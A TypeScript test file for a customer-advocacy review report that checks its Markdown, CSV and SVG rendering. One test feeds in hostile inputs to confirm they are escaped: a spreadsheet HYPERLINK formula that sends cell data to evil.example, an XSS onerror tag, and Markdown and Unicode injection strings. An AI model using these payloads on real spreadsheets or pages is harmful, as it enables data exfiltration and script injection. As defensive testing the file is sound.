import { beforeAll, describe, expect, it } from 'vitest';
import { computeReview } from '../../../../shared/casework/review.js';
import { renderReviewCsv } from '../../../../shared/casework/review-csv.js';
import { formatMinutes, periodLabel } from '../../../../shared/casework/review-format.js';
import { renderReviewMarkdown } from '../../../../shared/casework/review-markdown.js';
import type { Review } from '../../../../shared/casework/review-model.js';
import { barChartSvg } from '../../../../shared/casework/svg-bar-chart.js';
import { seededReviewCases } from '../../../fixtures/casework/seeded-month.js';
import { exampleConfig } from '../../../helpers/config.js';

describe('review rendering', () => {
  let review: Review;

  beforeAll(async () => {
    const config = await exampleConfig();
    const opened = seededReviewCases();
    review = computeReview(
      {
        from: new Date('2026-11-01T00:00:00Z'),
        to: new Date('2026-12-01T00:00:00Z'),
        now: new Date('2026-12-01T00:00:00Z'),
        opened,
        open: opened.map((entry) => entry.case).filter((item) => item.status !== 'closed'),
      },
      config.tiers,
    );
  });

  it('writes Markdown with a summary, SLA tables and two inline SVG charts', () => {
    const markdown = renderReviewMarkdown(review);

    expect(markdown.split('\n')[0]).toBe('# Customer Advocacy review, 2026-11-01 to 2026-11-30');
    expect(markdown).toContain(
      'closed since: **7**, SLA breaches: **4**, recurrences within 90 days: **1**',
    );
    expect(markdown).toContain(
      '| advocates | 6 | 5 | 45 min | 10.0 h | 30 min | 8.0 h (business) | 3 | 3 |',
    );
    expect(markdown).toContain('| all | 7 | 2.0 d | 7.0 d |');
    expect(markdown).toContain(
      '| c06 | Customer c06 | advocates | yes | 2026-11-16T14:45:00.000Z | not yet | 1x, to senior |',
    );
    expect(markdown.match(/<svg /g)).toHaveLength(2);
    expect(renderReviewMarkdown(review, { charts: false })).not.toContain('<svg');
  });

  it('writes CSV as one metric per row', () => {
    const rows = renderReviewCsv(review).trimEnd().split('\n');

    expect(rows[0]).toBe('section,key,metric,value');
    expect(rows).toContain('acknowledge,all,median_minutes,45');
    expect(rows).toContain('acknowledge,all,p90_minutes,600');
    expect(rows).toContain('close,all,median_minutes,2880');
    expect(rows).toContain('summary,cases,sla_breaches,4');
    expect(rows).toContain('trial_ending,c03,premium support,2026-12-08');
  });

  it("keeps a customer's or an advocate's text from running as a formula or as Markdown", () => {
    // Prepare
    const hostile: Review = {
      ...review,
      trialsEndingSoon: [
        {
          ...review.trialsEndingSoon[0]!,
          service: '=HYPERLINK("https://evil.example?"&A1,"Click")',
        },
        { ...review.trialsEndingSoon[0]!, service: '\t=1+1' },
        { ...review.trialsEndingSoon[0]!, service: '-12' },
      ],
    };
    const name =
      'Acme\r## Pwned [Refund](https://evil.example) <img src=x onerror=alert(1)> `x` | &#x202E;';
    const breaches = review.breaches.map((breach) => ({ ...breach, customer: name }));

    // Act
    const csv = renderReviewCsv(hostile);
    const markdown = renderReviewMarkdown({ ...review, breaches }, { charts: false });

    // Assess
    expect(csv).toContain(
      `trial_ending,c03,"'=HYPERLINK(""https://evil.example?""&A1,""Click"")",2026-12-08`,
    );
    expect(csv).toContain(`trial_ending,c03,"'\t=1+1",2026-12-08`);
    expect(csv).toContain('trial_ending,c03,-12,2026-12-08');
    expect(markdown).not.toContain('\r');
    expect(markdown).not.toMatch(/^## Pwned/m);
    expect(markdown).toContain(
      'Acme ## Pwned \\[Refund\\](https://evil.example) \\<img src=x onerror=alert(1)\\> \\`x\\` \\| \\&#x202E;',
    );
  });
});

describe('formatMinutes and periodLabel', () => {
  it.each([
    [null, '-'],
    [0.4, '0 min'],
    [89, '89 min'],
    [90, '1.5 h'],
    [2879, '48.0 h'],
    [2880, '2.0 d'],
  ])('%s minutes -> %s', (minutes, text) => {
    expect(formatMinutes(minutes)).toBe(text);
  });

  it('shows the exclusive end as the last day included', () => {
    expect(periodLabel({ from: '2026-11-16T00:00:00.000Z', to: '2026-11-23T00:00:00.000Z' })).toBe(
      '2026-11-16 to 2026-11-22',
    );
  });
});

describe('barChartSvg', () => {
  it('draws one bar per count, scaled to the largest, and escapes labels', () => {
    const svg = barChartSvg({
      title: 'Cases <per> trigger',
      bars: [
        { key: 'churn_threat', count: 4 },
        { key: 'a&b', count: 2 },
      ],
    });

    expect(svg).toMatch(/^<svg xmlns="http:\/\/www.w3.org\/2000\/svg" width="480" height="76"/);
    expect(svg).toContain('<title>Cases &#60;per&#62; trigger</title>');
    expect(svg).toContain('<rect x="120" y="31" width="320" height="14" fill="#3b6ea5"/>');
    expect(svg).toContain('<rect x="120" y="51" width="160" height="14" fill="#3b6ea5"/>');
    expect(svg).toContain('>a&#38;b</text>');
    expect(svg).not.toMatch(/<script|href=/);
  });

  it('draws an empty chart without dividing by zero', () => {
    expect(barChartSvg({ title: 'none', bars: [{ key: 'x', count: 0 }] })).toContain('width="0"');
  });
});
